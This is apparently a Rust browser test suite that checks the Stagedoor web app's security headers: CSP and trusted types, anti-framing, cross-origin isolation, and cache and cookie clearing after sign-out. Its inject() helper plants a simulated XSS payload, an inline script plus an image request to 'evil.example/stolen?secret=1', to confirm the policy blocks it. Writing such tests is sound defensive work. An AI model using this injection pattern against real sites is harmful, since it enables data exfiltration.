//! What Chromium makes of the security headers: rows W8, W9, W13, W14 and W17.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::thread;

use serde_json::json;

use crate::browser::{Browser, JavaScript};
use crate::http;
use crate::journeys::set_up;
use crate::program::Program;

const SIGN_OUT: &str = "form[action=\"/logout\"] button";

#[test]
fn w8_w17_no_page_breaks_the_policy_and_each_is_isolated_from_other_sites() {
    let mut program = Program::with_examples();
    let browser = Browser::new(JavaScript::On);
    let visit = |path: &str| {
        browser.goto(&format!("{}{path}", program.url));
        assert_eq!(browser.look("return crossOriginIsolated"), true, "{path}");
    };
    visit("/login");
    visit("/setup?key=wrong");
    set_up(&browser, &mut program);
    let visit = |path: &str| {
        browser.goto(&format!("{}{path}", program.url));
        assert_eq!(browser.look("return crossOriginIsolated"), true, "{path}");
    };
    for path in [
        "/",
        "/scripts/diagnostics/every-type",
        "/scripts/colours",
        "/runs",
        "/account",
        "/admin/health",
        "/admin/csp-reports",
    ] {
        visit(path);
    }
    visit("/scripts/colours");
    browser.click("form[data-script] button");
    browser.wait("the run has ended", |b| b.shows("#run[data-state=ended]"));
    assert_eq!(browser.look("return crossOriginIsolated"), true);
    // The page for a key that is wrong has status 410, which Chromium notes.
    let complaints: Vec<String> = browser.complaints();
    let of_policy = |line: &&String| !line.contains("410 (Gone)");
    let broken: Vec<&String> = complaints.iter().filter(of_policy).collect();
    assert_eq!(broken, Vec::<&String>::new());
    visit("/admin/csp-reports");
    browser.wait_for_text("main", "Nothing was blocked");
}

/// Puts a script and a picture of another site into the page.
pub fn inject(browser: &Browser) {
    browser.look(
        "const inline = document.createElement('script');
         inline.append('window.hacked = true');
         document.body.append(inline);
         const picture = document.createElement('img');
         picture.src = 'https://evil.example/stolen?secret=1';
         document.body.append(picture);",
    );
}

#[test]
fn w8_an_injected_script_does_not_run_and_an_admin_reads_of_it() {
    let mut program = Program::with_examples();
    let browser = Browser::new(JavaScript::On);
    set_up(&browser, &mut program);
    browser.goto(&format!("{}/runs", program.url));
    inject(&browser);
    assert_eq!(browser.look("return window.hacked === undefined"), true);
    let reports = format!("{}/admin/csp-reports", program.url);
    browser.wait("the reports", |b| {
        b.goto(&reports);
        let shown = b.text("table.reports").unwrap_or_default();
        shown.contains("require-trusted-types-for") && shown.contains("https://evil.example")
    });
    let shown = browser.text("table.reports").expect("the table");
    assert!(
        shown.contains("/runs") && !shown.contains("secret"),
        "{shown}"
    );
    assert!(
        !program.log().contains("evil.example"),
        "reports are not logged"
    );
}

/// A site of somebody else: a page with two frames, and the page for one of them.
fn other_site(framed: &str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let url = format!("http://{}", listener.local_addr().expect("an address"));
    let outer = format!("<iframe src=\"{framed}\"></iframe><iframe src=\"/inner\"></iframe>");
    thread::spawn(move || {
        for mut stream in listener.incoming().take(50).flatten() {
            let mut asked = [0; 4096];
            let size = stream.read(&mut asked).unwrap_or(0);
            let page = if asked[..size].starts_with(b"GET /inner") {
                "<p>inner page"
            } else {
                outer.as_str()
            };
            let _ = write!(
                stream,
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\
                 Connection: close\r\n\r\n{page}",
                page.len()
            );
        }
    });
    url
}

#[test]
fn w9_another_site_cannot_show_our_pages_in_a_frame() {
    let program = Program::with_examples();
    let browser = Browser::new(JavaScript::On);
    let login = format!("{}/login", program.url);
    browser.goto(&login);
    let own = browser.text("body").expect("a page");
    assert!(own.contains("Stagedoor"), "{own}");
    browser.goto(&other_site(&login));
    let theirs = browser.text_in_frame(1);
    assert_eq!(theirs, "inner page", "a page that allows it is shown");
    let ours = browser.text_in_frame(0);
    assert!(!ours.contains("Stagedoor"), "{ours}");
    let complaints = browser.complaints();
    let named = complaints.iter().any(|line| {
        line.contains(&program.url)
            && (line.contains("frame-ancestors") || line.contains("X-Frame-Options"))
    });
    assert!(named, "{complaints:?}");
}

#[test]
fn w13_the_back_button_shows_nothing_after_signing_out() {
    let mut program = Program::with_examples();
    let browser = Browser::new(JavaScript::On);
    set_up(&browser, &mut program);
    browser.goto(&format!("{}/account", program.url));
    browser.goto(&format!("{}/runs", program.url));
    browser.back();
    browser.wait("back at the account", |b| b.url().ends_with("/account"));
    assert!(
        browser
            .text("main")
            .is_some_and(|text| text.contains("admin"))
    );
    browser.click(SIGN_OUT);
    browser.wait("signed out", |b| b.url().contains("/login"));
    for _ in 0..2 {
        browser.back();
        browser.wait("a page", |b| b.text("main").is_some());
        let shown = browser.text("body").unwrap_or_default();
        assert!(
            !shown.contains("admin") && !shown.contains("Disk report"),
            "{shown}"
        );
        assert!(browser.url().contains("/login"), "{}", browser.url());
    }
}

#[test]
fn w14_signing_out_leaves_neither_cookie_nor_storage() {
    let mut program = Program::with_examples();
    let browser = Browser::new(JavaScript::On);
    set_up(&browser, &mut program);
    let session = |browser: &Browser| {
        let names = browser.cookie_names();
        names.iter().any(|name| name.starts_with("SessionID-"))
    };
    browser.look("localStorage.setItem('kept', 'yes')");
    browser.goto(&format!("{}/runs", program.url));
    assert_eq!(browser.look("return localStorage.getItem('kept')"), "yes");
    assert!(session(&browser));
    browser.click(SIGN_OUT);
    browser.wait("signed out", |b| b.url().contains("/login"));
    assert!(!session(&browser), "{:?}", browser.cookie_names());
    assert_eq!(
        browser.look("return localStorage.getItem('kept')"),
        json!(null)
    );
}

fn report(program: &Program, directive: &str, blocked: &str, page: &str, source: &str) {
    let report = json!({"csp-report": {
        "document-uri": format!("{}{page}", program.url), "effective-directive": directive,
        "blocked-uri": blocked, "source-file": source,
    }});
    let headers = [("Content-Type", "application/csp-report")];
    let url = format!("{}/csp-report", program.url);
    http::post(&url, &headers, report.to_string().as_bytes()).expect(204);
}

/// Pictures for docs/screenshots; and the page is not wider than a phone.
#[test]
fn the_page_of_reports_fits_a_phone() {
    let mut program = Program::with_examples();
    let browser = Browser::new(JavaScript::On);
    set_up(&browser, &mut program);
    for _ in 0..12 {
        report(
            &program,
            "script-src-elem",
            "inline",
            "/scripts/diagnostics/every-type",
            "",
        );
    }
    report(
        &program,
        "img-src",
        "https://a-long-name.of.a-proxy.example.org:8443/x",
        "/runs",
        "",
    );
    let run = "/runs/01900000-0000-7000-8000-000000000000";
    report(
        &program,
        "script-src-elem",
        "chrome-extension://x",
        run,
        "chrome-extension://x/y.js",
    );
    browser.goto(&format!("{}/admin/csp-reports", program.url));
    let folder = crate::tree::root().join("target/screenshots");
    std::fs::create_dir_all(&folder).expect("a folder for the pictures");
    for (label, size) in [("wide", (1280, 900)), ("phone", (390, 844))] {
        for (scheme, dark) in [("light", false), ("dark", true)] {
            browser.pretend(size, dark);
            let over = browser.look("return document.documentElement.scrollWidth - innerWidth");
            assert!(
                over.as_i64().is_some_and(|pixels| pixels <= 0),
                "{label}: {over} px"
            );
            let inside = "const t = document.querySelector('.reports').parentElement;
                          return t.scrollWidth - t.clientWidth";
            assert_eq!(browser.look(inside), 0, "{label}: the table fits too");
            let file = folder.join(format!("reports-{label}-{scheme}.png"));
            std::fs::write(file, browser.picture()).expect("a picture");
        }
    }
}
